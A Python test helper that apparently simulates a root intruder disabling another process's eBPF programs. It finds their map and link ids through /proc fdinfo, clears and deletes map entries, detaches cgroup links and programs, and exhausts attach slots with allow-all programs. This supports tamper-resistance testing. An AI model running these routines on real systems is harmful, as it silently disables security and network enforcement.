# SPDX-License-Identifier: Apache-2.0
"""What an intruder with root does to somebody else's kernel programs: bpf(2) by id, from another process.

Shares nothing with the product. Ids are those of the descriptors that /proc shows of the victim.
"""

from __future__ import annotations

import ctypes
import errno
import os
import struct
from pathlib import Path

MAP_LOOKUP_ELEM, MAP_UPDATE_ELEM, MAP_DELETE_ELEM = 1, 2, 3
PROG_LOAD = 5
PROG_DETACH = 9
PROG_GET_FD_BY_ID, MAP_GET_FD_BY_ID = 13, 14
OBJ_GET_INFO_BY_FD = 15
LINK_CREATE, LINK_GET_FD_BY_ID, LINK_DETACH = 28, 30, 34
CGROUP_SOCK = 9  # enum bpf_prog_type
CONNECT4, POST_BIND4 = 10, 12  # enum bpf_attach_type
_SYS_BPF = 321
_libc = ctypes.CDLL(None, use_errno=True)


def bpf(command: int, attributes: bytes) -> int:
    """Raises OSError."""
    buffer = ctypes.create_string_buffer(attributes.ljust(128, b"\0"), 128)
    result = _libc.syscall(ctypes.c_long(_SYS_BPF), ctypes.c_long(command), buffer, ctypes.c_long(128))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return int(result)


def held(pid: int, what: str) -> list[dict[str, str]]:
    """fdinfo of the victim's descriptors that have a `what` line (map_id, prog_id, link_id)."""
    found = []
    for entry in Path(f"/proc/{pid}/fdinfo").iterdir():
        try:
            lines = [line.partition(":") for line in entry.read_text().splitlines()]
        except FileNotFoundError:  # closed meanwhile
            continue
        info = {key: value.strip() for key, _, value in lines}
        if what in info:
            found.append({"fd": entry.name, **info})
    return found


def _name(fd: int) -> str:
    """Of a map: at byte 24 of struct bpf_map_info."""
    info = ctypes.create_string_buffer(80)
    bpf(OBJ_GET_INFO_BY_FD, struct.pack("<IIQ", fd, len(info), ctypes.addressof(info)))
    return info.raw[24:40].split(b"\0")[0].decode()


def map_of(pid: int, name: str) -> int:
    """A descriptor of our own for the victim's map."""
    for info in held(pid, "map_id"):
        if "link_id" in info or "prog_id" in info:
            continue
        fd = bpf(MAP_GET_FD_BY_ID, struct.pack("<I", int(info["map_id"])))
        if _name(fd) == name:
            return fd
        os.close(fd)
    raise LookupError(name)


def clear_array(map_fd: int, size: int) -> None:
    """Overwrite the one value of an array with zeros."""
    key, value = ctypes.create_string_buffer(4), ctypes.create_string_buffer(size)
    attributes = struct.pack("<IIQQQ", map_fd, 0, ctypes.addressof(key), ctypes.addressof(value), 0)
    bpf(MAP_UPDATE_ELEM, attributes)


def delete(map_fd: int, key: bytes) -> None:
    raw = ctypes.create_string_buffer(key, len(key))
    bpf(MAP_DELETE_ELEM, struct.pack("<IIQ", map_fd, 0, ctypes.addressof(raw)))


def cgroup_link(pid: int, attach_type: int) -> int:
    """A descriptor of our own for the victim's link of that attach type."""
    for info in held(pid, "link_id"):
        if info.get("link_type") == "cgroup" and info.get("attach_type") == str(attach_type):
            return bpf(LINK_GET_FD_BY_ID, struct.pack("<I", int(info["link_id"])))
    raise LookupError(attach_type)


def detach(link_fd: int) -> None:
    bpf(LINK_DETACH, struct.pack("<I", link_fd))


def detach_program(pid: int, attach_type: int, cgroup: str) -> None:
    """The way that is older than links."""
    info = next(i for i in held(pid, "link_id") if i.get("attach_type") == str(attach_type))
    program = bpf(PROG_GET_FD_BY_ID, struct.pack("<I", int(info["prog_id"])))
    directory = os.open(cgroup, os.O_RDONLY)
    try:
        bpf(PROG_DETACH, struct.pack("<III", directory, program, attach_type))
    finally:
        os.close(program)
        os.close(directory)


def fill_cgroup(cgroup: str, attach_type: int) -> list[int]:
    """Attach a program that lets everything pass until the cgroup takes no more of them; the descriptors hold them."""
    code = ctypes.create_string_buffer(bytes.fromhex("b700000001000000 9500000000000000"))  # r0 = 1; exit
    licence = ctypes.create_string_buffer(b"GPL")
    load = struct.pack("<IIQQ", CGROUP_SOCK, 2, ctypes.addressof(code), ctypes.addressof(licence))
    program = bpf(PROG_LOAD, load.ljust(68, b"\0") + struct.pack("<I", attach_type))
    directory = os.open(cgroup, os.O_RDONLY)
    links: list[int] = []
    try:
        while True:
            links.append(bpf(LINK_CREATE, struct.pack("<4I", program, directory, attach_type, 0)))
    except OSError as error:
        if error.errno != errno.E2BIG:
            raise
    finally:
        os.close(program)
        os.close(directory)
    return links
